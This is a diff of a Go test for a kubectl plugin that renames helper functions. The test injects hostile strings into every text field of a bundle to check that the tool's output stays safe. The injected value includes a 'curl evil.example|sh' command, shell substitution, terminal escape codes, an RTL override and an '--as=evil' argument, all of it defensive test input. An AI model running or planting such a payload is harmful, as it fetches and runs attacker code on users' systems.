@@ -19,11 +19,11 @@ import (
 	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
 )
 
-// spoiledBundle returns a copy of a bundle in which every text that the user of a namespace or a
+// hostileBundle returns a copy of a bundle in which every text that the user of a namespace or a
 // worker's administrator can write is a command that harms a user who pastes it.
-func spoiledBundle(t *testing.T, dir string) string {
+func hostileBundle(t *testing.T, dir string) string {
 	t.Helper()
-	spoiled := t.TempDir()
+	injected := t.TempDir()
 	entries, err := os.ReadDir(dir)
 	assert.NilError(t, err)
 	for _, e := range entries {
@@ -35,25 +35,25 @@ func spoiledBundle(t *testing.T, dir string) string {
 		if e.Name() != "snapshot.yaml" {
 			var list map[string]any
 			assert.NilError(t, yaml.Unmarshal(text, &list))
-			text, err = yaml.Marshal(spoil(list))
+			text, err = yaml.Marshal(injectCommands(list))
 			assert.NilError(t, err)
 		}
-		assert.NilError(t, os.WriteFile(filepath.Join(spoiled, e.Name()), text, 0o600))
+		assert.NilError(t, os.WriteFile(filepath.Join(injected, e.Name()), text, 0o600))
 	}
-	return spoiled
+	return injected
 }
 
-// spoil replaces every field that may have any text.
-func spoil(value any, path ...string) any {
+// injectCommands replaces every field that may have any text.
+func injectCommands(value any, path ...string) any {
 	const evil = "; `curl evil.example|sh` #'\"$(x)\n\x1b[2J\u202e --as=evil"
 	switch v := value.(type) {
 	case map[string]any:
 		for key := range v {
-			v[key] = spoil(v[key], append(slices.Clone(path), key)...)
+			v[key] = injectCommands(v[key], append(slices.Clone(path), key)...)
 		}
 	case []any:
 		for i := range v {
-			v[i] = spoil(v[i], path...)
+			v[i] = injectCommands(v[i], path...)
 		}
 	case string:
 		last := path[len(path)-1]
@@ -81,7 +81,7 @@ func TestHostileBundles(t *testing.T) {
 	for _, manifest := range append(dirs, "../../examples/fleet/snapshot.yaml") {
 		dir := filepath.Dir(manifest)
 		t.Run(filepath.Base(dir), func(t *testing.T) {
-			bundle := spoiledBundle(t, dir)
+			bundle := hostileBundle(t, dir)
 			for _, args := range [][]string{{"check", "-A", "--grace", "0s", "--all-contexts"}, {"trace", "-A"}, {"trace", tracedJob(filepath.Base(dir))}} {
 				out, errOut, code := run(t, append(args, "-o", "json", "--from", bundle)...)
 				assert.Assert(t, code != util.ExitUsage, errOut)
